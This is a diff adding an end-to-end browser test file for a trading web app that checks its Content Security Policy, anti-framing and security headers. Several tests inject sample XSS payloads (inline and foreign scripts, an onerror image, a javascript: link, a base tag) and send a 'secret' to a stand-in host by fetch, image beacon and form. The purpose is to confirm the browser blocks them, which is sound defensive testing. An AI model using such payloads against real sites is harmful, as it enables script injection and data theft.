@@ -1,0 +1,224 @@
+import { createServer, type Server } from 'node:http';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { uploadFile } from '@/data/files';
+import { submitVerification } from '@/data/verifications';
+import { newOp } from '@/domain/envelope';
+import { loopback, portOf } from '../../tools/ports';
+import { specimen } from '../../tools/seed-specimen';
+import { launchBrowser, newVisitor, site, type Visitor } from './support/browser';
+import { enter } from './support/enter';
+import { createAdministrator, createTrader, type Person } from './support/people';
+
+let browser: Browser;
+let client: Person;
+let administrator: Person;
+beforeAll(async () => {
+  browser = await launchBrowser();
+  administrator = await createAdministrator('Signe');
+  client = await createTrader('Torunn', administrator);
+  const document = await uploadFile(client.caller, 'identity', specimen('passport'));
+  await submitVerification(client.caller, document, 'passport', newOp());
+});
+afterAll(() => browser.close());
+
+/** What a browser refused since the page was opened, as the browser tells it, and as it tells the page. */
+interface Watched extends Visitor {
+  refused: () => Promise<string[]>;
+}
+
+async function watched(): Promise<Watched> {
+  const visitor = await newVisitor(browser);
+  await visitor.context.addInitScript(() => {
+    const told: string[] = [];
+    Object.assign(globalThis, { told });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
+      told.push([effectiveDirective, blockedURI, sample].join(' ').trim());
+    });
+  });
+  const refused = async () => [
+    ...(await visitor.page.evaluate(() => (globalThis as unknown as { told: string[] }).told)), // put there by the script above
+    ...visitor.logged.filter((line) => /content security policy|permissions policy|x-frame-options/i.test(line)),
+  ];
+  return { ...visitor, refused };
+}
+
+interface Screen {
+  path: string;
+  /** What is there once the screen is complete. */
+  ready: string;
+  act?: (page: Page) => Promise<void>;
+}
+
+const press = (page: Page, name: string | RegExp) => page.getByRole('button', { name }).first().click();
+const photo = '<svg xmlns="http://www.w3.org/2000/svg" width="900" height="900"><rect width="900" height="900" fill="#0f5a40"/></svg>';
+
+const clientScreens: Screen[] = [
+  { path: '/user/dashboard', ready: 'Lowest', act: (page) => page.locator('canvas').first().waitFor() },
+  { path: '/user/deposit', ready: 'I have sent it', act: (page) => page.getByRole('img', { name: /QR/ }).waitFor() },
+  { path: '/user/withdrawal', ready: 'The desk activates your account' },
+  { path: '/user/statement', ready: 'Equal to the cent' },
+  { path: '/user/assets', ready: 'Bitcoin Cash' },
+  { path: '/user/subscriptions', ready: 'Choose' },
+  { path: '/user/user-verify', ready: 'document' },
+  { path: '/user/buy-bitcoin', ready: 'Deposit' },
+  {
+    path: '/user/settings',
+    ready: 'Phone number',
+    act: async (page) => {
+      await page
+        .locator('input[type=file]')
+        .first()
+        .setInputFiles({ name: 'me.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(photo) });
+      await page.getByText('Profile Photo Updated Successfully').first().waitFor();
+      const shown = page.locator('img[src*="/images%2F"]').first();
+      await expect.poll(() => shown.evaluate((one) => one instanceof HTMLImageElement && one.naturalWidth > 0)).toBe(true);
+    },
+  },
+];
+
+const deskScreens: Screen[] = [
+  { path: '/admin/dashboard', ready: 'Most on a day' },
+  { path: '/admin/users?q=torunn', ready: 'Torunn Tester' },
+  { path: '/admin/deposit?tab=completed&q=torunn', ready: 'Torunn Tester' },
+  { path: '/admin/withdrawal', ready: 'Withdrawals' },
+  { path: '/admin/trades', ready: 'Trade' },
+  { path: '/admin/subscriptions', ready: 'Subscriptions' },
+  { path: '/admin/notifications', ready: 'Notification' },
+  { path: '/admin/account', ready: 'Account' },
+  { path: '/admin/settings', ready: 'Payment' },
+  {
+    path: '/admin/verification?q=torunn',
+    ready: 'Torunn Tester',
+    act: async (page) => {
+      await press(page, /^Review: .+ of Torunn/);
+      await press(page, 'Open the document');
+      await page.locator('.viewer canvas, .viewer img').or(page.getByRole('dialog').locator('canvas')).first().waitFor();
+    },
+  },
+];
+
+const publicScreens: Screen[] = [
+  { path: '/', ready: 'Every cent' },
+  { path: '/education/learn-forex/pips-and-lots', ready: 'Check yourself', act: (page) => page.mouse.move(200, 200) },
+  { path: '/market/cryptocurrency', ready: 'Prices now' },
+  { path: '/company/contact', ready: 'Send the message' },
+  { path: '/signin', ready: 'Forgot your password?' },
+  { path: '/signup', ready: 'Open the account' },
+  { path: '/no-such-page', ready: 'Glassbook' },
+];
+
+async function walk({ page, refused }: Watched, screens: Screen[]): Promise<void> {
+  for (const { path, ready, act } of screens) {
+    await page.goto(path);
+    await page.getByText(ready, { exact: false }).filter({ visible: true }).first().waitFor();
+    await act?.(page);
+    expect([path, ...(await refused())]).toEqual([path]);
+  }
+}
+
+describe('the policy of the pages', () => {
+  it('refuses nothing that the public pages do', async () => {
+    const visitor = await watched();
+    await walk(visitor, publicScreens);
+    await visitor.context.close();
+  });
+
+  it('refuses nothing that a client does: charts, QR codes, a photo', async () => {
+    const visitor = await watched();
+    await enter(visitor.page, client, '/user/dashboard');
+    await walk(visitor, clientScreens);
+    await visitor.context.close();
+  });
+
+  it('refuses nothing that the desk does: queues, a PDF that is drawn in its worker', async () => {
+    const visitor = await watched();
+    await enter(visitor.page, administrator, '/admin/dashboard');
+    await walk(visitor, deskScreens);
+    await visitor.context.close();
+  });
+
+  it.each(['/', '/signin', '/user/settings'])('lets no script run that was brought into %s', async (path) => {
+    const { page, context, refused } = await watched();
+    await enter(page, client, path);
+    await page.getByRole('heading').first().waitFor();
+    await page.evaluate(() => {
+      const run = 'globalThis.harm = true';
+      const script = document.createElement('script');
+      script.textContent = run;
+      const foreign = document.createElement('script');
+      foreign.src = 'https://scripts.example/harm.js';
+      const box = document.createElement('div');
+      box.innerHTML = `<img src="data:," onerror="${run}"><a href="javascript:${run}">press</a><base href="https://elsewhere.example/">`;
+      document.body.append(script, foreign, box);
+      box.querySelector('a')?.click();
+      // Later, because a tool of the browser's may evaluate what it likes.
+      setTimeout(() => new Function(run)());
+    });
+    await expect.poll(refused).toContainEqual(expect.stringContaining('https://scripts.example/harm.js'));
+    await expect.poll(async () => (await refused()).join()).toContain('script-src-attr inline');
+    const told = await refused();
+    for (const kind of ['script-src-elem inline', 'script-src eval', 'base-uri']) expect(told.join()).toContain(kind);
+    expect(await page.evaluate(() => ['harm' in globalThis, document.baseURI.startsWith(location.origin)])).toEqual([false, true]);
+    await context.close();
+  });
+
+  it('lets nothing be sent elsewhere, neither by a request nor by a form', async () => {
+    const { page, context, refused } = await watched();
+    await page.goto('/signin');
+    await page.getByText('Forgot your password?').waitFor();
+    await page.evaluate(async () => {
+      await fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }).catch(() => undefined);
+      new Image().src = 'https://elsewhere.example/?secret';
+      const form = document.createElement('form');
+      form.action = 'https://elsewhere.example/';
+      document.body.append(form);
+      form.submit();
+    });
+    await expect.poll(async () => (await refused()).join()).toContain('form-action');
+    const told = (await refused()).join();
+    for (const directive of ['connect-src', 'img-src', 'form-action']) expect(told).toContain(`${directive} https://elsewhere.example/`);
+    expect(page.url()).toBe(`${site}/signin`);
+    await context.close();
+  });
+});
+
+describe('the app in a frame of somebody else’s page', () => {
+  let other: Server;
+  beforeAll(async () => {
+    const page = ['/', '/signin', '/user/dashboard', '/favicon.svg'].map((path) => `<iframe src="${site}${path}"></iframe>`).join('');
+    other = createServer((_, response) => response.setHeader('content-type', 'text/html').end(page));
+    await new Promise<void>((resolve) => other.listen(0, loopback, resolve));
+  });
+  afterAll(() => other.close());
+
+  it('is not shown', async () => {
+    const { page, context, logged } = await newVisitor(browser);
+    await page.goto(`http://${loopback}:${portOf(other)}/`);
+    await expect.poll(() => logged.filter((line) => line.includes('frame-ancestors')).length).toBe(4);
+    expect(
+      page
+        .frames()
+        .slice(1)
+        .map((frame) => frame.url()),
+    ).toEqual(Array(4).fill('chrome-error://chromewebdata/'));
+    await context.close();
+  });
+});
+
+it('every answer has its headers, a missing file and a script too', async () => {
+  for (const path of ['/', '/user/dashboard', '/favicon.svg', '/assets/none.js']) {
+    const { headers } = await fetch(`${site}${path}`);
+    const found = ['strict-transport-security', 'x-content-type-options', 'referrer-policy', 'permissions-policy'].filter((name) =>
+      headers.has(name),
+    );
+    expect([path, found.length, headers.get('cross-origin-opener-policy'), headers.get('x-frame-options')]).toEqual([
+      path,
+      4,
+      'same-origin',
+      'DENY',
+    ]);
+    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
+    expect(headers.get('content-security-policy')).not.toMatch(/script-src[^;]*unsafe/);
+  }
+});
